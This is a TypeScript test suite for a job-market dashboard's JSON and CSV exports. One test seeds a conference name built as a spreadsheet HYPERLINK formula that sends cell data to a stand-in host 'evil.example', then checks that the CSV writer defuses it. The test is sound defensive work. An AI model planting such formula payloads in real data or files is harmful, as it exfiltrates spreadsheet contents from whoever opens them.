import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDb } from "@/db/client";
import { ingestDataBatch } from "@/db/ingest/data-rows";
import { parseTalentParams } from "@/app/talent/search-params";
import { parseTrendsParams } from "@/app/trends/search-params";
import { parseSalaryParams } from "@/app/salaries/search-params";
import { parseUseCasesParams } from "@/app/use-cases/search-params";
import { parseOverviewParams } from "@/app/search-params";
import { getIndeedAiShareByMonth, getPaperShareByYear } from "@/db/queries/adoption";
import { getDemandSupply } from "@/db/queries/demand-supply";
import { defaultPeriod, getOverviewTiles } from "@/db/queries/overview";
import { ANY_FRAMEWORK, getSalaryBands, listSalarySurveyYears } from "@/db/queries/salaries";
import { getSupply, listSurveyYears, supplyFilterSchema } from "@/db/queries/supply";
import { getGroupFirstRuns, getGroupMonthlyFrameworkCounts, getGroupSourceStarts, getMonthlyFrameworkCounts } from "@/db/queries/trends";
import { getUseCaseCoverage, getUseCaseFrameworkCells, getUseCaseTotals } from "@/db/queries/use-cases";
import { errorResponse } from "@/lib/api/respond";
import { rawParams } from "@/lib/api/search-params";
import { SURVEY_CAVEAT } from "@/lib/caveats";
import { CSV_META_LINES } from "@/lib/export/meta";
import { exportResponse, exportStream } from "@/lib/export/respond";
import type { ExportViewName } from "@/lib/export/view";
import { FRAMEWORKS } from "@/lib/taxonomy";
import { seriesAnnotations } from "@/lib/trends/annotations";
import { shareSeries } from "@/lib/trends/share-series";
import { SEED_NOW, seedDashboard } from "../helpers/seed-dashboard";
import { createTempDb } from "../helpers/temp-db";

// A conference and an Indeed country whose names a spreadsheet would run as formulas.
const HOSTILE_CONFERENCE = '=HYPERLINK("https://evil.example/?x="&A1,"NeurIPS")';
const HOSTILE_COUNTRY = "@SUM(1+1)";

type Chart = { title: string; n: number; nUnit: string; unit: string; origin: string; caveat: string | null; columns: string[]; rows: Array<Record<string, unknown>> };
type ChartsBody = { meta: { view: string; caveat: string | null; filters: Record<string, unknown> }; charts: Record<string, Chart> };

let temp: ReturnType<typeof createTempDb>;

beforeAll(async () => {
  temp = createTempDb();
  await seedDashboard(temp.db);
  const point = { unit: "papers", origin: "test", url: "https://example.test/papers.csv" };
  const papers = (series: "papers_pytorch" | "papers_tensorflow" | "papers_total", value: number) => ({ ...point, series, key: HOSTILE_CONFERENCE, date: "2021-12", value });
  ingestDataBatch(temp.db, {
    data: { kind: "series-points", rows: [papers("papers_pytorch", 30), papers("papers_tensorflow", 10), papers("papers_total", 100)] },
    validators: [],
    fetchedAt: SEED_NOW.toISOString(),
  });
  ingestDataBatch(temp.db, {
    data: { kind: "series-points", rows: [{ series: "indeed_ai_share", key: HOSTILE_COUNTRY, date: "2025-01-15", value: 1.25, unit: "percent of postings", origin: "test", url: "https://example.test/ai.csv" }] },
    validators: [],
    fetchedAt: SEED_NOW.toISOString(),
  });
}, 120_000);
afterAll(() => temp?.cleanup());

const open = () => openDb(temp.file, { readonly: true });

async function exportJson(view: ExportViewName, query: string): Promise<ChartsBody> {
  const { stream } = exportStream({ view, format: "json", search: new URLSearchParams(query), now: SEED_NOW }, open);
  return JSON.parse(await new Response(stream).text()) as ChartsBody;
}

async function exportCsv(view: ExportViewName, query: string): Promise<{ text: string; rows: Array<Record<string, string>> }> {
  const { stream } = exportStream({ view, format: "csv", search: new URLSearchParams(query), now: SEED_NOW }, open);
  const text = await new Response(stream).text();
  return { text, rows: parse(text, { bom: true, from_line: CSV_META_LINES + 1, columns: true }) as Array<Record<string, string>> };
}

const rowsOf = (body: ChartsBody, chart: string) => {
  const found = body.charts[chart];
  if (!found) throw new Error(`no chart ${chart} in ${Object.keys(body.charts).join(", ")}`);
  return found.rows;
};
const r4 = (value: number | null | undefined) => (value === null || value === undefined ? null : Number(value.toFixed(4)));
/** A JSON value as the CSV writes it: null empty, a boolean 1 or empty (csv-stringify), a formula-like text defused. */
const csvText = (value: unknown) => (value === null || value === undefined || value === false ? "" : value === true ? "1" : typeof value === "string" ? value.replace(/^([=+\-@])/, "'$1") : String(value));
const params = (query: string) => rawParams(new URLSearchParams(query));

describe("trends export holds every chart of /trends", () => {
  it.each(["", "from=2018-01&to=2026-03", "from=2026-01&framework=tensorflow", "country=US", "to=2018-03"])("?%s: the same numbers as the page's queries", async (query) => {
    const { values } = parseTrendsParams(params(query));
    const range = { from: values.from, to: values.to };
    const body = await exportJson("trends", query);
    expect(Object.keys(body.charts)).toEqual(["share-hn", "annotations-hn", "share-boards", "annotations-boards", "papers", "papers-by-conference", "indeed-ai-share", "survey-usage"]);

    for (const group of ["hn", "boards"] as const) {
      const counts = getGroupMonthlyFrameworkCounts(temp.db, { group, ...range });
      const expected = FRAMEWORKS.flatMap((framework) =>
        shareSeries(counts, framework)
          .filter((p) => p.n > 0)
          .map((p) => ({ month: p.month, framework, mentions: p.mentions, share: r4(p.share), shareLow: r4(p.lower), shareHigh: r4(p.upper), movingAverage3m: r4(p.movingAverage), n: p.n })),
      );
      const sort = (rows: Array<Record<string, unknown>>) => [...rows].sort((a, b) => `${String(a.month)}${String(a.framework)}`.localeCompare(`${String(b.month)}${String(b.framework)}`));
      expect(sort(rowsOf(body, `share-${group}`))).toEqual(sort(expected));
      expect(body.charts[`share-${group}`]?.n).toBe(counts.reduce((sum, row) => sum + row.postings, 0));
      const annotations = seriesAnnotations(counts, getGroupSourceStarts(temp.db, { group }), group === "boards" ? getGroupFirstRuns(temp.db, { group }) : []);
      expect(rowsOf(body, `annotations-${group}`)).toEqual(annotations.map((a) => ({ month: a.month, note: a.text, n: null })));
    }

    const papers = getPaperShareByYear(temp.db);
    expect(papers.length).toBeGreaterThan(4);
    expect(rowsOf(body, "papers")).toEqual(papers.map((p) => ({ year: p.year, framework: p.framework, papers: p.papers, share: r4(p.share), conferences: p.conferences, n: p.total })));
    // Each year's pooled share is its conferences' papers added up.
    for (const p of papers) {
      const parts = rowsOf(body, "papers-by-conference").filter((row) => row.year === p.year && row.framework === p.framework);
      expect(parts.reduce((sum, row) => sum + Number(row.papers), 0)).toBe(p.papers);
      expect(parts.reduce((sum, row) => sum + Number(row.n), 0)).toBe(p.total);
    }

    const indeed = getIndeedAiShareByMonth(temp.db, { country: values.country, ...range });
    expect(rowsOf(body, "indeed-ai-share")).toEqual(indeed.map((row) => ({ month: row.bucket, country: row.series, percent: r4(row.value), n: row.days })));
    if (values.country) expect(new Set(indeed.map((row) => row.series))).toEqual(new Set([values.country]));

    const survey = listSurveyYears(temp.db).flatMap((year) => getSupply(temp.db, supplyFilterSchema.parse({ year, relation: "used" })));
    expect(survey.length).toBeGreaterThan(0);
    expect(rowsOf(body, "survey-usage")).toEqual(survey.map((row) => ({ year: row.year, framework: row.framework, respondents: row.respondents, share: r4(row.share), shareLow: r4(row.shareLow), shareHigh: r4(row.shareHigh), n: row.sample })));
    expect(body.charts["survey-usage"]?.caveat).toContain(SURVEY_CAVEAT);
    expect(body.charts.papers?.caveat).toBeNull();
  });

  it("the seeded data really has annotations, Indeed months and several survey years to compare", async () => {
    const body = await exportJson("trends", "");
    expect(rowsOf(body, "annotations-boards").length + rowsOf(body, "annotations-hn").length).toBeGreaterThan(0);
    expect(rowsOf(body, "indeed-ai-share").length).toBeGreaterThan(10);
    expect(body.meta.caveat).toMatch(/Applies to the rows of: survey-usage\.$/);
  });
});

describe("the CSV is the JSON's charts in one table", () => {
  it.each(["overview", "trends", "talent", "salaries", "use-cases"] as const)("%s: a chart column, each chart's rows, n, unit, origin and the survey caveat on survey rows", async (view) => {
    const body = await exportJson(view, "");
    const { rows } = await exportCsv(view, "");
    expect([...new Set(rows.map((row) => row.chart))]).toEqual(Object.entries(body.charts).filter(([, chart]) => chart.rows.length > 0).map(([name]) => name));
    for (const [name, chart] of Object.entries(body.charts)) {
      const csv = rows.filter((row) => row.chart === name);
      expect(csv).toHaveLength(chart.rows.length);
      csv.forEach((row, at) => {
        const json = chart.rows[at]!;
        chart.columns.forEach((header, i) => {
          const value = json[Object.keys(json)[i]!];
          expect(row[header], `${name} ${header}`).toBe(csvText(value));
        });
        expect(row.n_unit).toBe(chart.nUnit);
        expect(row.unit).toBe(chart.unit);
        expect(row.origin).toBe(chart.origin);
        expect(row.caveat).toBe(chart.caveat ? SURVEY_CAVEAT : "");
      });
    }
  });

  it("a conference or country named like a formula is defused in CSV and kept as it is in JSON", async () => {
    const { text, rows } = await exportCsv("trends", "");
    expect(rows.find((row) => row.chart === "papers-by-conference" && row.conference === `'${HOSTILE_CONFERENCE}`)).toBeDefined();
    expect(rows.find((row) => row.chart === "indeed-ai-share" && row.country === `'${HOSTILE_COUNTRY}`)?.percent).toBe("1.25");
    expect(text).not.toMatch(/(^|,)"?[=@]/m);
    const body = await exportJson("trends", "");
    expect(rowsOf(body, "papers-by-conference").some((row) => row.conference === HOSTILE_CONFERENCE)).toBe(true);
  });
});

describe("talent, salaries, use-cases and overview exports hold every card of their page", () => {
  it.each(["", "role=ml_engineer", "framework=pytorch&from=2026-01", "region=europe"])("talent?%s", async (query) => {
    const years = listSurveyYears(temp.db);
    const { values } = parseTalentParams(params(query), years);
    const filter = { ...values, year: values.year ?? years[0] };
    const body = await exportJson("talent", query);
    const supply = [...getSupply(temp.db, { ...filter, relation: "used", by: [] }), ...getSupply(temp.db, { ...filter, relation: "wanted", by: [] })];
    expect(rowsOf(body, "supply").map((row) => [row.relation, row.framework, row.naming, row.share, row.n])).toEqual(supply.map((row) => [row.relation, row.framework, row.respondents, r4(row.share), row.sample]));
    for (const [chart, by] of [["index-overall", []], ["index-by-role", ["role"]], ["index-by-region", ["region"]]] as const) {
      const expected = getDemandSupply(temp.db, { ...filter, by: [...by] });
      expect(expected.length).toBeGreaterThan(0);
      expect(rowsOf(body, chart).map((row) => [row.framework, row.role, row.region, row.n, row.mentioning, row.respondents, row.users, row.index, row.thin])).toEqual(
        expected.map((row) => [row.framework, row.role, row.region, row.postings, row.mentioning, row.sample, row.users, r4(row.index), row.thin]),
      );
    }
    expect(body.meta.caveat).toContain(SURVEY_CAVEAT);
  });

  it.each(["", "split=region", "origin=survey&framework=pytorch", "origin=posted&split=seniority"])("salaries?%s", async (query) => {
    const years = [...new Set([...listSurveyYears(temp.db), ...listSalarySurveyYears(temp.db)])].sort((a, b) => b - a);
    const { values } = parseSalaryParams(params(query), years);
    const filter = { origin: values.origin, framework: values.framework, role: values.role, seniority: values.seniority, region: values.region, year: values.year };
    const bands = getSalaryBands(temp.db, { ...filter, by: values.split ? [values.split] : [] });
    const totals = getSalaryBands(temp.db, { ...filter, framework: values.framework ?? ANY_FRAMEWORK, by: [] });
    const body = await exportJson("salaries", query);
    const origins = values.origin ? [values.origin] : ["posted", "survey", "salary-survey"];
    expect(Object.keys(body.charts)).toEqual(origins.map((origin) => `bands-${origin}`));
    for (const origin of origins) {
      const own = bands.filter((band) => band.origin === origin);
      const round = (v: number | null) => (v === null ? null : Math.round(v));
      expect(rowsOf(body, `bands-${origin}`).map((row) => [row.framework, row.role, row.seniority, row.region, row.currency, row.n, row.suppressed, row.p10, row.p50, row.p90])).toEqual(
        own.map((band) => [band.framework, band.role, band.seniority, band.region, band.currency, band.n, band.suppressed, round(band.p10), round(band.p50), round(band.p90)]),
      );
      expect(body.charts[`bands-${origin}`]?.n).toBe(totals.filter((band) => band.origin === origin).reduce((sum, band) => sum + band.n, 0));
      expect(body.charts[`bands-${origin}`]?.caveat === null).toBe(origin === "posted");
    }
    expect(bands.length).toBeGreaterThan(0);
  });

  it.each(["", "source=boards", "source=hn&from=2026-01"])("use-cases?%s", async (query) => {
    const { values } = parseUseCasesParams(params(query));
    const body = await exportJson("use-cases", query);
    const coverage = getUseCaseCoverage(temp.db, values);
    expect(rowsOf(body, "coverage")).toEqual([{ withUseCase: coverage.withUseCase, withFramework: coverage.withFramework, withBoth: coverage.withBoth, n: coverage.jobs }]);
    const cells = getUseCaseFrameworkCells(temp.db, values);
    const totals = getUseCaseTotals(temp.db, values);
    for (const row of rowsOf(body, "split")) {
      expect(row.jobs).toBe(cells.find((c) => c.useCase === row.useCase && c.framework === row.framework)?.jobs ?? 0);
      expect(row.n).toBe(totals.find((t) => t.useCase === row.useCase)?.withFramework ?? 0);
    }
    expect(rowsOf(body, "split").reduce((sum, row) => sum + Number(row.jobs), 0)).toBe(cells.reduce((sum, c) => sum + c.jobs, 0));
    expect(rowsOf(body, "reverse").map((row) => row.framework)).toEqual(FRAMEWORKS.flatMap((f) => Array<string>(7).fill(f)));
  });

  it.each(["", "from=2026-01&to=2026-06", "to=2018-03"])("overview?%s", async (query) => {
    const values = parseOverviewParams(params(query));
    const period = defaultPeriod(temp.db, values);
    const overview = period ? getOverviewTiles(temp.db, period) : null;
    const body = await exportJson("overview", query);
    expect(overview).not.toBeNull();
    expect(rowsOf(body, "tiles-jobs").map((row) => [row.framework, row.jobs, row.previousJobs, row.periodFrom, row.periodTo, row.n])).toEqual(
      overview!.tiles.map((tile) => [tile.framework, tile.jobs, tile.previousJobs, overview!.period.from, overview!.period.to, overview!.frameworkJobs]),
    );
    expect(rowsOf(body, "tiles-pay").map((row) => [row.medianUsd, row.n])).toEqual(overview!.tiles.map((tile) => [tile.medianUsd === null ? null : Math.round(tile.medianUsd), tile.payN]));
    expect(rowsOf(body, "tiles-survey").map((row) => [row.year, row.respondents, row.share, row.n])).toEqual(overview!.tiles.map((tile) => [tile.surveyYear, tile.surveyUsers, r4(tile.surveyShare), tile.surveySample]));
    const counts = getMonthlyFrameworkCounts(temp.db, { source: "hn", ...values });
    expect(rowsOf(body, "hn-share").map((row) => [row.month, row.framework, row.mentions, row.n])).toEqual(counts.flatMap((c) => FRAMEWORKS.map((f) => [c.month, f, c[f], c.postings])));
    expect(body.meta.caveat).toMatch(/Applies to the rows of: tiles-survey\.$/);
  });
});

describe("invalid parameters are a 400 envelope for every chart view", () => {
  it.each([
    ["overview", "from=2026-13", "from"],
    ["overview", "from=2026-05&to=2026-01", "from"],
    ["overview", "framework=pytorch", "framework"],
    ["trends", "country=usa", "country"],
    ["trends", "framework=torch", "framework"],
    ["talent", "year=1999", "year"],
    ["talent", "region=atlantis", "region"],
    ["salaries", "split=everything", "split"],
    ["use-cases", "from=2026-02&to=2026-01", "from"],
  ] as const)("%s?%s names %s", async (view, query, param) => {
    let error: unknown;
    try {
      exportResponse({ view, format: "json", search: new URLSearchParams(query) }, open);
    } catch (caught) {
      error = caught;
    }
    const response = errorResponse(error);
    expect(response.status).toBe(400);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const body = (await response.json()) as { error: { code: string; issues: Array<{ param: string }> } };
    expect(body.error.code).toBe("invalid_parameters");
    expect(body.error.issues.map((issue) => issue.param)).toContain(param);
  });
});
